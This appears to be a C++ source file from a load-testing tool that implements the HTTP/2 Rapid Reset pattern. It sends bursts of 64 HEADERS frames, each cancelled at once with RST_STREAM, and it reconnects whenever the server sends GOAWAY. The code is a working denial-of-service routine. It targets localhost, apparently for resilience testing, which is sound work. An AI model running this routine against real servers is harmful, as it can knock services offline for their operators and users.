#include "rapid_reset.hpp"

#include "http2_frames.hpp"
#include "load_error.hpp"

namespace saker_load {

namespace {

constexpr int burst = 64;

}  // namespace

rapid_reset::rapid_reset(const arguments& options) : options_(options) { connect(); }

void rapid_reset::connect() {
  wire_.emplace(options_);
  outgoing_ = http2::preface;
  http2::append_head(outgoing_, 0, http2::settings, 0, 0);
  arrived_.clear();
  next_stream_ = 1;
}

void rapid_reset::push() {
  if (outgoing_.empty()) {
    std::string block;
    http2::append_field(block, ":method", "GET");
    http2::append_field(block, ":scheme", options_.tls ? "https" : "http");
    http2::append_field(block, ":path", "/hello");
    http2::append_field(block, ":authority", "localhost");
    for (int i = 0; i < burst; ++i, next_stream_ += 2) {
      http2::append_head(outgoing_, block.size(), http2::headers,
                         http2::end_headers | http2::end_stream, next_stream_);
      outgoing_ += block;
      http2::append_head(outgoing_, 4, http2::reset, 0, next_stream_);
      http2::append_number(outgoing_, 8, 4);
    }
    resets_ += burst;
  }
  if (send()) return;
  ++cut_off_;
  connect();
}

/// False: GOAWAY.
bool rapid_reset::take(std::string_view data) {
  arrived_ += data;
  while (arrived_.size() >= http2::head_size) {
    const auto size =
        http2::head_size + http2::read_number(std::string_view(arrived_).substr(0, 3));
    if (static_cast<unsigned char>(arrived_[3]) == http2::goaway) return false;
    if (arrived_.size() < size) break;
    arrived_.erase(0, size);
  }
  return true;
}

/// False: the server has had enough.
bool rapid_reset::send() {
  try {
    outgoing_.erase(0, wire_->send_now(outgoing_));
    for (;;) {
      const auto received = wire_->receive_now();
      if (received.end_of_stream()) return false;
      if (received.would_block) return true;
      if (!take(received.data)) return false;
    }
  } catch (const load_error&) {
    return false;  // A reset.
  }
}

}  // namespace saker_load
